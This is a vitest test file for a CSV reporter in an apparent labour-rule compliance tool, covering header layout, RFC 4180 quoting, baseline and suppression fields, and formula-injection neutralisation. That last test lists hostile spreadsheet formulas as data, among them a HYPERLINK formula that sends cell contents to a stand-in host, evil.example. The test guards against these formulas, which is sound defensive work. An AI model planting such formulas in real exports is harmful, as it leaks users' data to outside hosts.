import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csv, CSV_COLUMNS } from '../../src/reporters/csv.js';
import { finding, report } from '../helpers/report.js';

const rows = (text: string): string[][] => parse(text.replace(/^\uFEFF/, ''), { relax_column_count: false });

describe('csv reporter', () => {
  it('starts with a UTF-8 BOM and the stable header, one line per finding, CRLF line ends', () => {
    const r = report();
    const text = csv(r);
    expect(text.startsWith('\uFEFFid,rule,severity,workerId,')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const table = rows(text);
    expect(table[0]).toEqual([...CSV_COLUMNS]);
    expect(table).toHaveLength(r.findings.length + 1);
    const cot = table.find((row) => row[1] === 'continuous-order-time')!;
    const col = (name: string) => cot[CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number])];
    expect(col('evidence')).toBe('orders.csv:20:O20; orders.csv:31:O31');
    expect(JSON.parse(col('metrics'))).toEqual({ minutes: 305, limitMinutes: 240, overMinutes: 65 });
    expect(col('basis')).toBe('永人社发〔2025〕20号 6');
    expect(col('periodFrom')).toBe('2025-03-04T08:00:00+08:00');
  });

  it('quotes commas, quotes and line breaks (RFC 4180) and reads back the same', () => {
    const f = finding({ rule: 'minimum-wage', message: 'a, "quoted"\nline' });
    const table = rows(csv(report({ findings: [f] })));
    expect(table[1][CSV_COLUMNS.indexOf('message')]).toBe('a, "quoted"\nline');
  });

  it.each(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('neutralises a formula cell %j', (hostile) => {
    const f = finding({ rule: 'minimum-wage', workerId: hostile, platform: hostile, message: hostile });
    const line = rows(csv(report({ findings: [f] })))[1];
    for (const name of ['workerId', 'platform', 'message'] as const) {
      const cell = line[CSV_COLUMNS.indexOf(name)];
      expect(cell).toBe(`'${hostile}`);
    }
  });

  it('writes baseline state and suppression', () => {
    const f = { ...finding({ rule: 'minimum-wage' }), baseline: 'new' as const, suppressed: { reason: 'agreed fix', expires: '2025-06-30' } };
    const line = rows(csv(report({ findings: [f] })))[1];
    expect(line[CSV_COLUMNS.indexOf('baseline')]).toBe('new');
    expect(line[CSV_COLUMNS.indexOf('suppressed')]).toBe('agreed fix (until 2025-06-30)');
  });
});
